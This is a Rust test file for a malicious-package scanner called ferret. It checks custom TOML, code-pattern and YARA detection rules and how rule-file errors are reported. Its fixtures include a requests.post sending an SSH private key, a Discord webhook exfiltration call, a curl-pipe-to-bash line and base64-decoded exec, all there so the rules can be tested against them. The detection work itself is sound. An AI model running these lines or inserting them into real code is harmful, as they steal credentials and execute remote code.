//! Rules as data (issue #4): the built-in fixtures pass, a user's rule is picked up with
//! `--rules`, and a broken rule file is reported with its file, line and column.

use crate::support::{ferret, repo, tmpdir, zip};
use ferret_engine::{test_rules, Options};

#[test]
fn builtin_rule_fixtures_pass() {
    let dir = repo().join("rules");
    let set = ferret_rules::load_dir(&dir).unwrap_or_else(|e| {
        panic!(
            "{}",
            e.iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("\n")
        )
    });
    let outcomes = test_rules(&dir, &set, &Options::default());
    let failures: Vec<String> = outcomes
        .iter()
        .filter(|o| !o.passed)
        .map(|o| format!("{}:\n  {}", o.rule, o.messages.join("\n  ")))
        .collect();
    eprintln!("{} rules, {} failing", outcomes.len(), failures.len());
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // Every rule is exercised both ways, unless its fixtures are generated archives.
    for o in &outcomes {
        if o.messages
            .iter()
            .any(|m| m.starts_with("fixtures are generated"))
        {
            continue;
        }
        assert!(
            o.fired > 0 && o.quiet > 0,
            "{} lacks a must-fire or a must-stay-quiet case",
            o.rule
        );
    }
}

#[test]
fn builtin_rules_equal_the_rules_directory() {
    let embedded = ferret_rules::load_builtin().unwrap();
    let on_disk = ferret_rules::load_dir(&repo().join("rules")).unwrap();
    let ids = |s: &ferret_rules::RuleSet| s.rules.iter().map(|r| r.id.clone()).collect::<Vec<_>>();
    assert_eq!(ids(&embedded), ids(&on_disk));
}

const USER_RULE: &str = r#"id = "corp-internal-host"
name = "Talks to the old build host"
kind = "threat"
category = "custom"
severity = "high"
confidence = "high"
summary = "contacts build.corp.example.invalid"
[docs]
what = "Any string naming the retired build host."
why = "Nothing legitimate uses it any more."
example = "URL = 'http://build.corp.example.invalid/x'"
[match]
string = 'build\.corp\.example\.invalid'
"#;

#[test]
fn user_rules_are_picked_up_and_tested() {
    let dir = tmpdir("user-rules");
    std::fs::write(dir.join("corp-internal-host.toml"), USER_RULE).unwrap();
    std::fs::create_dir_all(dir.join("corp-internal-host")).unwrap();
    std::fs::write(
        dir.join("corp-internal-host/mod.py"),
        "# ruleid: corp-internal-host\nURL = 'http://build.corp.example.invalid/x'\n# ok: corp-internal-host\nOTHER = 'http://example.invalid/'\n",
    )
    .unwrap();
    let target = dir.join("pkg.py");
    std::fs::write(&target, "HOST = 'build.corp.example.invalid'\n").unwrap();
    let out = ferret(&[
        "scan",
        "--format",
        "json",
        "--rules",
        dir.to_str().unwrap(),
        target.to_str().unwrap(),
    ]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let rules: Vec<&str> = doc["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"corp-internal-host"), "{rules:?}");
    assert_eq!(out.status.code(), Some(1));
    // Without --rules the built-ins don't know that host.
    let out = ferret(&["scan", "--format", "json", target.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    // `ferret rules test` runs the user's fixtures.
    let out = ferret(&["rules", "test", dir.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(text.contains("1 passed, 0 failed"), "{text}");
}

#[test]
fn broken_rule_file_is_located() {
    let dir = tmpdir("broken-rules");
    let broken = USER_RULE.replace("string = 'build", "strin = 'build");
    std::fs::write(dir.join("corp-internal-host.toml"), broken).unwrap();
    let out = ferret(&[
        "scan",
        "--rules",
        dir.to_str().unwrap(),
        "corpus/samples/hello-pkg",
    ]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("corp-internal-host.toml:13:1"), "{err}");
    assert!(err.contains("unknown field `strin`"), "{err}");
    let bad_regex = USER_RULE.replace(r"string = 'build\.corp", r"string = '(?<=x)build\.corp");
    std::fs::write(dir.join("corp-internal-host.toml"), bad_regex).unwrap();
    let out = ferret(&["rules", "check", dir.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        err.contains("error[R004]") && err.contains(":13:10"),
        "{err}"
    );
}

const PATTERN_RULE: &str = r#"id = "post-of-secret"
name = "A secret is the body of a POST"
kind = "threat"
category = "custom"
severity = "high"
confidence = "medium"
summary = "requests.post sends data read from a credential file or the environment"
[docs]
what = "The `data` of requests.post carries a secret."
why = "Exfiltration."
example = "import requests\nrequests.post('http://example.invalid/', data=open('/root/.ssh/id_rsa').read())"
[match]
pattern = "requests.post(..., data=$D)"
where.D = { flow = ["secret", "env"] }
"#;

#[test]
fn code_pattern_rules_match_resolved_calls_and_report_errors_in_the_pattern() {
    let dir = tmpdir("pattern-rules");
    std::fs::write(dir.join("post-of-secret.toml"), PATTERN_RULE).unwrap();
    std::fs::create_dir_all(dir.join("post-of-secret")).unwrap();
    // Aliased import, the secret through a variable; near misses: a constant body, the secret
    // in another keyword, a different callee.
    std::fs::write(
        dir.join("post-of-secret/mod.py"),
        "import os\nimport requests as r\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
         # ruleid: post-of-secret\nr.post('http://example.invalid/', data=key)\n\
         # ok: post-of-secret\nr.post('http://example.invalid/', data='hello')\n\
         # ok: post-of-secret\nr.post('http://example.invalid/', json=key)\n\
         # ok: post-of-secret\nr.put('http://example.invalid/', data=key)\n",
    )
    .unwrap();
    let out = ferret(&["rules", "test", dir.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(text.contains("1 passed, 0 failed"), "{text}");

    let bad = PATTERN_RULE.replace("data=$D)", "data=$d)");
    std::fs::write(dir.join("post-of-secret.toml"), bad).unwrap();
    let out = ferret(&["rules", "check", dir.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    // Line 13, the column of the `$` inside the pattern string.
    assert!(
        err.contains("error[R011]") && err.contains(":13:36"),
        "{err}"
    );

    let bad = PATTERN_RULE.replace("where.D", "where.E");
    std::fs::write(dir.join("post-of-secret.toml"), bad).unwrap();
    let out = ferret(&["rules", "check", dir.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no metavariable `$E`") && err.contains(":14:11"),
        "{err}"
    );
}

#[test]
fn explain_prints_the_docs() {
    let out = ferret(&["rules", "explain", "exec-decoded-payload"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success());
    assert!(
        text.contains("What it flags")
            && text.contains("Why it is bad")
            && text.contains("Example"),
        "{text}"
    );
    assert_eq!(
        ferret(&["rules", "explain", "no-such-rule"]).status.code(),
        Some(2)
    );
}

// ---- YARA rules (`*.yar`, `*.yara` in a rules directory) ----

const YARA_RULE: &str = r#"rule corp_build_host : custom
{
    meta:
        description = "names the retired build host"
        severity = "high"
        confidence = "high"
        category = "custom"
    strings:
        $host = "build.corp.example.invalid" nocase
        $tok = { 63 6F 72 70 2D [4-8] 2D 6B 65 79 }    // corp-....-key
    condition:
        $host or #tok >= 2
}
"#;

fn findings(doc: &serde_json::Value) -> Vec<(String, String, u64)> {
    doc["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["file"].as_str().unwrap().to_string(),
                f["line"].as_u64().unwrap(),
            )
        })
        .collect()
}

fn sarif_rule_ids(stdout: &[u8]) -> Vec<String> {
    let doc: serde_json::Value = serde_json::from_slice(stdout).unwrap();
    doc["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["ruleId"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn yara_rule_from_a_temp_dir_fires_through_rules() {
    let dir = tmpdir("yara-rules");
    std::fs::write(dir.join("corp.yar"), YARA_RULE).unwrap();
    // A package whose only hit is in a data file (no Python fact would see it), and a wheel.
    let pkg = dir.join("pkg");
    std::fs::create_dir_all(pkg.join("pkg")).unwrap();
    std::fs::write(
        pkg.join("setup.py"),
        "from setuptools import setup\nsetup(name='pkg')\n",
    )
    .unwrap();
    std::fs::write(pkg.join("pkg/__init__.py"), "VERSION = '1'\n").unwrap();
    std::fs::write(
        pkg.join("pkg/hosts.cfg"),
        "[build]\nmirror = https://pypi.org\nlegacy = BUILD.corp.example.invalid\n",
    )
    .unwrap();
    let out = ferret(&[
        "scan",
        "--format",
        "json",
        "--rules",
        dir.to_str().unwrap(),
        pkg.to_str().unwrap(),
    ]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!("{e}: {}", String::from_utf8_lossy(&out.stderr));
    });
    let got = findings(&doc);
    assert!(
        got.contains(&("yara:corp_build_host".into(), "pkg/hosts.cfg".into(), 3)),
        "{got:?}"
    );
    let f = doc["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "yara:corp_build_host")
        .unwrap();
    assert_eq!(f["severity"], "high");
    assert_eq!(f["category"], "custom");
    assert_eq!(f["column"], 10);
    assert_eq!(f["context"], "legacy = BUILD.corp.example.invalid");
    assert!(
        f["message"].as_str().unwrap().contains("$host"),
        "{}",
        f["message"]
    );
    assert_eq!(doc["packages"][0]["verdict"], "malicious");
    assert_eq!(out.status.code(), Some(1));

    // Inside a wheel, binary-safe hex with a jump, counted; and through SARIF.
    let wheel = dir.join("pkg-1.0-py3-none-any.whl");
    std::fs::write(
        &wheel,
        zip(&[
            ("pkg/__init__.py".into(), b"A = 'corp-1234-key'\n".to_vec()),
            ("pkg/data.txt".into(), b"x corp-abcdef-key y\n".to_vec()),
        ]),
    )
    .unwrap();
    let out = ferret(&[
        "scan",
        "--format",
        "sarif",
        "--no-builtin-rules",
        "--rules",
        dir.to_str().unwrap(),
        wheel.to_str().unwrap(),
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "one `corp-…-key` per member: #tok >= 2 holds in none\n{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(sarif_rule_ids(&out.stdout).is_empty(), "{text}");
    std::fs::write(
        &wheel,
        zip(&[(
            "pkg/data.txt".into(),
            b"x corp-abcdef-key y\nz corp-12345678-key\n".to_vec(),
        )]),
    )
    .unwrap();
    let out = ferret(&[
        "scan",
        "--format",
        "sarif",
        "--no-builtin-rules",
        "--rules",
        dir.to_str().unwrap(),
        wheel.to_str().unwrap(),
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert_eq!(
        sarif_rule_ids(&out.stdout),
        ["yara:corp_build_host"],
        "{text}"
    );

    // Without --rules nothing knows that host.
    let out = ferret(&["scan", "--format", "json", pkg.to_str().unwrap()]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        findings(&doc).iter().all(|f| !f.0.starts_with("yara:")),
        "{doc}"
    );
}

#[test]
fn broken_yara_file_is_located() {
    let dir = tmpdir("broken-yara");
    let broken = YARA_RULE.replace("$host or #tok", "$hots or #tok");
    std::fs::write(dir.join("corp.yar"), broken).unwrap();
    let out = ferret(&[
        "scan",
        "--rules",
        dir.to_str().unwrap(),
        "corpus/samples/hello-pkg",
    ]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("corp.yar:12:9"), "{err}");
    // Located the same with the subset and with yara-x (feature `yara`); codes and wording
    // are each engine's own.
    let yara_x = cfg!(feature = "yara");
    let (code, text) = if yara_x {
        ("error[E025]", "unknown pattern `$hots`")
    } else {
        ("error[Y004]", "undefined string `$hots`")
    };
    assert!(err.contains(code) && err.contains(text), "{err}");
    let broken = YARA_RULE.replace("2D 6B 65 79", "2D 6B 65 7Z");
    std::fs::write(dir.join("corp.yar"), broken).unwrap();
    let out = ferret(&["rules", "check", dir.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2));
    let code = if yara_x { "error[E001]" } else { "error[Y003]" };
    assert!(
        err.contains(code) && err.contains("corp.yar:10:48"),
        "{err}"
    );
    std::fs::write(dir.join("corp.yar"), format!("import \"pe\"\n{YARA_RULE}")).unwrap();
    let out = ferret(&["rules", "check", dir.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    let (code, text) = if yara_x {
        ("error[E010]", "unknown module `pe`")
    } else {
        ("error[Y002]", "modules")
    };
    assert!(
        err.contains(code) && err.contains("corp.yar:1:1") && err.contains(text),
        "{err}"
    );
}

#[test]
fn yara_rule_fixtures_run_with_rules_test() {
    let dir = tmpdir("yara-fixtures");
    std::fs::write(dir.join("corp.yar"), YARA_RULE).unwrap();
    std::fs::create_dir_all(dir.join("corp/pkg")).unwrap();
    std::fs::write(
        dir.join("corp/pkg/mod.py"),
        "# ruleid: yara:corp_build_host\nURL = 'http://build.corp.example.invalid/x'\n# ok: yara:corp_build_host\nOTHER = 'http://corp.example.invalid/'\n",
    )
    .unwrap();
    let out = ferret(&["rules", "test", dir.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(text.contains("ok    yara:corp_build_host"), "{text}");
    assert!(text.contains("1 passed, 0 failed"), "{text}");
    let out = ferret(&[
        "rules",
        "explain",
        "--rules",
        dir.to_str().unwrap(),
        "yara:corp_build_host",
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success() && text.contains("names the retired build host"),
        "{text}"
    );
}

#[test]
fn docs_yara_example_loads_and_fires() {
    let path = repo().join("docs/yara-example.yar");
    let src = std::fs::read_to_string(&path).unwrap();
    let rules = ferret_rules::load_yara_str(&src, "docs/yara-example.yar")
        .unwrap_or_else(|e| panic!("{e}"));
    let ids: Vec<&str> = rules.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "yara:discord_webhook_exfil",
            "yara:exec_of_base64",
            "yara:curl_pipe_shell"
        ]
    );
    let mut set = ferret_rules::RuleSet {
        rules,
        ..Default::default()
    };
    set.finalize();
    let engine = ferret_engine::Engine::new(set, Options::default());
    let fired = |name: &str, body: &str| -> Vec<String> {
        engine
            .scan_bytes(body.as_bytes(), name, name)
            .findings
            .into_iter()
            .map(|f| f.rule)
            .collect()
    };
    let hook = "requests.post('https://discord.com/api/webhooks/873015262941137026/q7Ld2VxR0sWn3kEa_8TzPmY4cJhU5gBo1FiK', json=d)\n";
    assert_eq!(fired("x.py", hook), ["yara:discord_webhook_exfil"]);
    assert_eq!(
        fired("x.py", "exec(base64.b64decode(P))\n"),
        ["yara:exec_of_base64"]
    );
    // "exec(base64.b64decode(" hidden in a base64 blob.
    assert_eq!(
        fired("x.py", "S = 'ZXhlYyhiYXNlNjQuYjY0ZGVjb2RlKCJhYWFh'\n"),
        ["yara:exec_of_base64"]
    );
    assert_eq!(
        fired(
            "install.sh",
            "#!/bin/sh\ncurl -s https://example.invalid/x | bash\n"
        ),
        ["yara:curl_pipe_shell"]
    );
    assert!(
        fired("notes.txt", "curl -s https://example.invalid/x | bash\n").is_empty(),
        "not a script"
    );
    assert!(fired("x.py", "import base64\nprint(base64.b64decode(b'aGk='))\n").is_empty());
}
